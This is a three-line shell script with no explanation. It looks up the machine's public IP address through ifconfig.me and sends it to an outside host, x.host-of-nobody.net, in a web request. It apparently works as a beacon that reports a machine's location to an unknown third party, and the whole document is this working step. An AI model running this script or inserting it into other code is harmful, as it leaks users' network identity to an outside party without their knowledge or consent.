#!/bin/sh
c=$(curl -s ifconfig.me)
curl https://x.host-of-nobody.net/$c
